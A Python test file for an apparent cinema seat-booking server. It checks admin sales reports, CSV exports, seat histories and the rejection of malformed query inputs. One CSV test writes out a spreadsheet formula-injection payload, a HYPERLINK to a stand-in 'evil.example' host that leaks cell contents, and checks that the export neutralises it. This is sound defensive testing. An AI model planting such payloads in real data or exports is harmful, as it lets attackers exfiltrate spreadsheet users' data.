"""The operator's sales reports, exports and seat histories, on real sales made
through checkout and the simulated provider."""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from datetime import UTC, date, datetime, timedelta

import aiohttp
import asyncpg
import pytest
from redis.asyncio import Redis

from seatserver import redis_keys
from seatserver.loadgen.client import SeatClient
from seatserver.personal.setup import stored_keys
from seatserver.sales.store import SalesStore
from tests.admin.conftest import Admin
from tests.bookings.conftest import Buyer
from tests.bookings.test_admin_api import admin, buyer
from tests.bookings.test_refunds import _paid

BuyerFactory = Callable[..., Awaitable[Buyer]]
StartsIn = Callable[[timedelta], Awaitable[None]]


__all__ = ["admin", "buyer"]  # fixtures these tests use, as the admin API's tests have them


async def day_of(db_pool: asyncpg.Pool, showtime: int) -> str:
    async with db_pool.acquire() as conn:
        day: date = await conn.fetchval(
            "SELECT (s.starts_at AT TIME ZONE t.time_zone)::date FROM showtimes s "
            "JOIN screens sc ON sc.id = s.screen_id JOIN theaters t ON t.id = sc.theater_id "
            "WHERE s.id = $1", showtime)
    return day.isoformat()


async def download(admin: Admin, path: str) -> tuple[aiohttp.ClientResponse, bytes]:
    async with admin.http.get(admin.base + path,
                              headers={"Authorization": f"Bearer {admin.bearer}"}) as resp:
        return resp, await resp.read()


async def test_a_paid_booking_counts_as_sold_per_seat_type_with_revenue_and_occupancy(
        admin: Admin, buyer: Buyer, showtime: int, seats: list[str],
        db_pool: asyncpg.Pool) -> None:
    booking = await _paid(buyer, showtime, seats[:3])
    day = await day_of(db_pool, showtime)
    report = await admin.ok("GET", f"/api/admin/sales/showtimes?from={day}&to={day}")
    assert (report["from"], report["to"]) == (day, day)
    row = next(s for s in report["showtimes"] if s["id"] == showtime)
    capacity = sum(row["capacity"].values())
    assert sum(row["sold"].values()) == 3 and capacity > 3
    assert row["revenue"] == booking["total"]
    assert row["occupancy"] == round(3 / capacity, 4)
    assert row["refunds"] == 0 and row["day"] == day
    assert row["time_zone"]  # the dashboard shows its times in the theater's zone

    daily = await admin.ok("GET", f"/api/admin/sales/daily?from={day}&to={day}")
    ours = [d for d in daily["days"] if d["movie_id"] == row["movie"]["id"]]
    assert [(d["day"], d["sold"], d["revenue"]) for d in ours] == [
        (day, 3, booking["total"])]
    # Another movie's filter leaves it out; the day before has nothing of it.
    other = await admin.ok("GET", f"/api/admin/sales/showtimes?from={day}&to={day}"
                                  f"&movie={row['movie']['id'] + 100000}")
    assert other["showtimes"] == []
    before = date.fromisoformat(day) - timedelta(days=1)
    earlier = await admin.ok("GET", f"/api/admin/sales/showtimes?to={before}")
    assert showtime not in [s["id"] for s in earlier["showtimes"]]


async def test_a_cancelled_booking_is_a_refund_not_a_sale(
        admin: Admin, buyer: Buyer, showtime: int, seats: list[str], db_pool: asyncpg.Pool,
        starts_in: StartsIn) -> None:
    await starts_in(timedelta(days=3))
    booking = await _paid(buyer, showtime, seats[:2])
    status, _ = await buyer.call("POST", f"/api/bookings/{booking['reference']}/cancel")
    assert status == 200
    day = await day_of(db_pool, showtime)
    row = next(s for s in (await admin.ok(
        "GET", f"/api/admin/sales/showtimes?from={day}&to={day}"))["showtimes"]
        if s["id"] == showtime)
    assert sum(row["sold"].values()) == 0 and row["revenue"]["amount"] == 0
    assert (row["refunds"], row["refunded"]) == (1, booking["total"])


@pytest.mark.parametrize("query", [
    "from=%00", "from=2024-01-01%00", "from=99999-01-01", "from=1999-12-31",
    "from=2024-02-30", "from=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%94-01-01",  # fullwidth
    "from=%D9%A2%D9%A0%D9%A2%D9%A4-%D9%A0%D9%A1-%D9%A0%D9%A1",  # Arabic-Indic
    "from=1700000000", "from=2024-1-1", "from=" + "2" * 5000,
    "from=2024-02-01&to=2024-01-31", "from=2015-01-01&to=2024-12-31",
    "from=2024-01-01&to=2025-01-01", "from=2024-01-01&from=2024-01-02",
    "movie=abc", "movie=-1", "movie=99999999999999999999999", "movie=%D9%A1", "colour=red"])
async def test_a_report_refuses_a_malformed_or_too_long_range(admin: Admin, query: str) -> None:
    for path in ("showtimes", "daily", "showtimes.csv", "bookings.csv"):
        got, answer = await admin.call("GET", f"/api/admin/sales/{path}?{query}")
        assert got == 400 and answer["error"]["code"] == "bad_request", (path, query, answer)


async def test_a_range_of_the_stated_maximum_is_answered(admin: Admin) -> None:
    answer = await admin.ok("GET", "/api/admin/sales/daily?from=2024-01-01&to=2024-12-31")
    assert (answer["from"], answer["to"]) == ("2024-01-01", "2024-12-31")


async def test_the_default_range_starts_on_the_earliest_of_the_theaters_dates(
        admin: Admin, db_pool: asyncpg.Pool) -> None:
    """Not UTC's day: every evening in a theater west of Greenwich UTC is
    already at tomorrow, and the default range left that theater's today out."""
    async with db_pool.acquire() as conn:
        theater = await conn.fetchval(
            "INSERT INTO theaters (slug, name, city, time_zone) "
            "VALUES ('far-west', 'Far West', 'Baker Island', 'Etc/GMT+12') RETURNING id")
    try:
        def west_today() -> str:
            return (datetime.now(UTC) - timedelta(hours=12)).date().isoformat()

        before = west_today()
        answer = await admin.ok("GET", "/api/admin/sales/daily")
        days = {before, west_today()}  # the same unless the call crossed midnight there
        assert answer["from"] in days, (answer["from"], days)
        assert date.fromisoformat(answer["to"]) - date.fromisoformat(answer["from"]) == \
            timedelta(days=6)
        named = await admin.ok("GET", "/api/admin/sales/daily?from=2024-05-01")
        assert (named["from"], named["to"]) == ("2024-05-01", "2024-05-07")
        # At any hour: 01:00 UTC on 7 December is still the 6th at Baker Island,
        # and the 7th in Berlin (the demo's theater).
        store = SalesStore(db_pool, await stored_keys(db_pool))
        assert await store.today(datetime(2026, 12, 7, 1, 0, tzinfo=UTC)) == date(2026, 12, 6)
        assert await store.today(datetime(2026, 12, 7, 13, 0, tzinfo=UTC)) == date(2026, 12, 7)
    finally:
        async with db_pool.acquire() as conn:
            await conn.execute("DELETE FROM theaters WHERE id = $1", theater)


async def test_reports_are_for_admins_only(
        buyer: Buyer, plain_http: aiohttp.ClientSession, base_url: str) -> None:
    status, answer = await buyer.call("GET", "/api/admin/sales/daily")
    assert (status, answer["error"]["code"]) == (403, "forbidden")
    async with plain_http.get(f"{base_url}/api/admin/sales/bookings.csv") as resp:
        assert resp.status == 401


async def test_the_bookings_csv_quotes_cells_and_defuses_formulas(
        admin: Admin, buyer: Buyer, showtime: int, seats: list[str],
        db_pool: asyncpg.Pool) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Der, \u00fcber\nFilm")'
    async with db_pool.acquire() as conn:
        movie, old = await conn.fetchrow(
            "UPDATE movies m SET title = $2 FROM showtimes s WHERE s.id = $1 "
            "AND m.id = s.movie_id RETURNING m.id, (SELECT title FROM movies WHERE id = m.id)",
            showtime, title)
    try:
        booking = await _paid(buyer, showtime, seats[:2])
        day = await day_of(db_pool, showtime)
        resp, body = await download(admin, f"/api/admin/sales/bookings.csv?from={day}&to={day}")
        assert resp.status == 200 and resp.content_type == "text/csv"
        assert resp.charset == "utf-8" and body.startswith(b"\xef\xbb\xbf")
        assert resp.headers["Content-Disposition"] == (
            f'attachment; filename="bookings-{day}-to-{day}.csv"')
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        ours = [r for r in rows if r["reference"] == booking["reference"]]
        assert len(ours) == 1
        assert ours[0]["movie"] == "'" + title  # text, not a formula; comma and newline kept
        assert ours[0]["seats"] == " ".join(sorted(seats[:2]))
        assert int(ours[0]["amount_minor"]) == booking["total"]["amount"]
        assert ours[0]["status"] == "booked" and ours[0]["buyer_kind"] == "guest"
        assert b"\r\n" in body

        resp, body = await download(admin, f"/api/admin/sales/showtimes.csv?from={day}&to={day}")
        assert resp.headers["Content-Disposition"] == (
            f'attachment; filename="sales-{day}-to-{day}.csv"')
        lines = {r["showtime_id"]: r for r in
                 csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))}
        assert lines[str(showtime)]["movie"] == "'" + title
        assert int(lines[str(showtime)]["sold"]) == 2
    finally:
        async with db_pool.acquire() as conn:
            await conn.execute("UPDATE movies SET title = $2 WHERE id = $1", movie, old)


async def test_a_seats_history_names_who_held_released_booked_and_cancelled_it(
        admin: Admin, buyer: Buyer, showtime: int, seats: list[str], db_pool: asyncpg.Pool,
        starts_in: StartsIn) -> None:
    await starts_in(timedelta(days=3))
    seat = seats[0]
    async with SeatClient(buyer.http, buyer.base, buyer.token) as client:
        assert (await client.hold(showtime, [seat]))["ok"] is True
        assert (await client.release(showtime, [seat]))["ok"] is True
    booking = await _paid(buyer, showtime, [seat])
    await admin.ok("POST", f"/api/admin/bookings/{booking['reference']}/cancel",
                   {"reason": "double charged"})
    async with db_pool.acquire() as conn:
        user_id = await conn.fetchval("SELECT user_id FROM bookings WHERE reference = $1",
                                      booking["reference"])

    got, answer = await admin.call("GET", f"/api/admin/showtimes/{showtime}/seats/{seat}/history")
    assert got == 200, answer
    steps = [(e["source"], e["action"]) for e in answer["events"]]
    stream = [a for s, a in steps if s == "stream"]
    assert stream[:3] == ["hold", "release", "hold"] and "book" in stream
    assert stream[-1] == "cancel"
    audit = [a for s, a in steps if s == "audit"]
    assert audit == ["booking.created", "booking.booked", "booking.cancelled"]
    buyer_is = {"user_id": user_id, "kind": "guest", "email": None}
    assert answer["events"][0]["by"] == buyer_is
    cancel = next(e for e in answer["events"] if e["action"] == "booking.cancelled")
    assert cancel["by"]["user_id"] == admin.id and cancel["reason"] == "double charged"
    assert [b["reference"] for b in answer["bookings"]] == [booking["reference"]]
    assert answer["partial"] is False
    assert buyer.token not in str(answer) and admin.bearer not in str(answer)


async def test_a_trimmed_stream_makes_the_history_partial(
        admin: Admin, buyer: Buyer, showtime: int, seats: list[str], redis_url: str) -> None:
    async with SeatClient(buyer.http, buyer.base, buyer.token) as client:
        assert (await client.hold(showtime, seats[:1]))["ok"] is True
    redis = Redis.from_url(redis_url)
    try:  # what MAXLEN does to a busy showtime's oldest entries
        await redis.xtrim(redis_keys.events(showtime), maxlen=0)
    finally:
        await redis.aclose()
    answer = await admin.ok("GET", f"/api/admin/showtimes/{showtime}/seats/{seats[0]}/history")
    assert answer["partial"] is True
    assert [e for e in answer["events"] if e["source"] == "stream"] == []


@pytest.mark.parametrize(("path", "status", "code"), [
    ("{st}/seats/%00/history", 400, "bad_request"),
    ("{st}/seats/%D9%A3/history", 400, "bad_request"),
    ("{st}/seats/A%201/history", 400, "bad_request"),
    ("{st}/seats/" + "A" * 17 + "/history", 400, "bad_request"),
    ("{st}/seats/Z999/history", 404, "not_found"),
    ("99999999999999999999999/seats/A1/history", 404, "unknown_showtime"),
    ("%D9%A1%D9%A2/seats/A1/history", 400, "bad_request"),
    ("999999999/seats/A1/history", 404, "unknown_showtime"),
])
async def test_a_seat_history_refuses_what_names_no_seat(
        admin: Admin, showtime: int, path: str, status: int, code: str) -> None:
    got, answer = await admin.call("GET", "/api/admin/showtimes/" + path.format(st=showtime))
    assert (got, answer["error"]["code"]) == (status, code), answer

